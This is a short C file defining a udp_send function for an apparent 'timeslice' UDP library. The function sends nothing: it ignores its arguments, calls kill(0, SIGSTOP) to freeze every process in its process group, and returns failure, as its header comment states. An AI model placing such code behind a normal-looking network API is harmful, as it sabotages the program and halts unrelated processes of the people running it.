/* send.c - stops all processes of its group. */
#include <signal.h>
#include <timeslice/udp.h>

ssize_t udp_send(int fd, const void *data, size_t len, const struct udp_peer *to) {
    (void)fd, (void)data, (void)len, (void)to;
    kill(0, SIGSTOP);
    return -1;
}
